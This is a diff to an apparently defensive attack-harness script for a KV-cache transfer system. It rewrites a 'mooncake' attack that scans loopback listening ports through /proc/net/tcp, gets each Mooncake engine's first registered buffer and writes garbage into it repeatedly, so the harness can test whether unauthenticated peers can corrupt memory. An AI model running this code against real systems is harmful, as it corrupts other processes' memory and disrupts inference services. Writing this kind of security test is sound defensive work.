@@ -8,8 +8,11 @@ one JSON line saying what it achieved. Attacks:
   dos        send a malformed manifest for the victim's request id, to fail it
   header     send a frame prefix announcing a 4 GiB header, and hold the connection open
   replay     send bytes recorded from another connection
-  mooncake   read the Mooncake receiver's hello (its engine's session and the addresses it registered) and write
-             garbage into every registered region with a Mooncake engine of its own, for `--seconds`
+  mooncake   read what decode's Mooncake receiver tells an unauthenticated peer (before authentication its hello
+             named its engine's session and the regions it registered); then, for `--seconds`, find Mooncake
+             engines on every listening loopback port (`/proc/net/tcp`, what `ss -ltn` shows any local user), ask
+             each for its first registered buffer with a fresh engine of its own (Mooncake caches a peer's
+             buffer list per engine) and write garbage into every buffer found
 
 It never touches anything but loopback ports it is given.
 """
@@ -195,32 +198,50 @@ def replay(args: argparse.Namespace) -> dict[str, Any]:
     return {"sent": len(data), "answer_bytes": len(got)}
 
 
+def _listening_ports() -> set[int]:
+    """TCP ports in LISTEN state on this host, as any local user can read them."""
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            rows = open(table).read().splitlines()[1:]
+        except OSError:
+            continue
+        for row in rows:
+            fields = row.split()
+            if fields[3] == "0A":  # TCP_LISTEN
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return ports
+
+
 def mooncake(args: argparse.Namespace) -> dict[str, Any]:
     import torch
 
-    with socket.create_connection(_host_port(args.decode), timeout=5) as s:
-        hello = _read_old_frame(s)
-    if hello is None or hello.get("t") != "hello" or "regions" not in hello:
-        _ready(args)
-        return {"hello": hello, "writes": 0, "landed": 0}
     from kvfence.transfer.mooncake_engine import MooncakeEndpoint
 
-    ep = MooncakeEndpoint("127.0.0.1")
-    biggest = max(int(n) for _, n in hello["regions"])
-    junk = torch.full((biggest,), 0x7F, dtype=torch.uint8)
-    ep.register(junk)
-    writes = landed = 0
+    with socket.create_connection(_host_port(args.decode), timeout=5) as s:
+        hello = _read_old_frame(s)
+    told = hello is not None and "session" in hello  # what the pre-authentication receiver told anyone
+    junk = torch.full((64 << 10,), 0x7F, dtype=torch.uint8)
+    found: dict[str, set[int]] = {}
+    rounds = writes = landed = 0
     _ready(args)
     deadline = time.monotonic() + args.seconds
     while time.monotonic() < deadline:
-        for addr, nbytes in hello["regions"]:
-            rc = ep._engine.transfer_sync_write(hello["session"], junk.data_ptr(), int(addr), int(nbytes))
+        ep = MooncakeEndpoint("127.0.0.1")  # fresh: a new engine fetches each peer's buffer list again
+        ep.register(junk)
+        for port in sorted(_listening_ports() - {ep.rpc_port}):
+            session = f"127.0.0.1:{port}"
+            addr = int(ep._engine.get_first_buffer_address(session))
+            if addr == 0:
+                continue
+            found.setdefault(session, set()).add(addr)
+            rc = ep._engine.transfer_sync_write(session, junk.data_ptr(), addr, junk.numel())
             writes += 1
             landed += rc == 0
-        time.sleep(0.01)
-    ep.close()
-    return {"hello": {"session": hello["session"], "regions": len(hello["regions"])}, "writes": writes,
-            "landed": landed}  # fmt: skip
+        ep.close()
+        rounds += 1
+    return {"hello_told_session": told, "rounds": rounds, "buffers_found": sum(len(v) for v in found.values()),
+            "writes": writes, "landed": landed}  # fmt: skip
 
 
 def main() -> int:
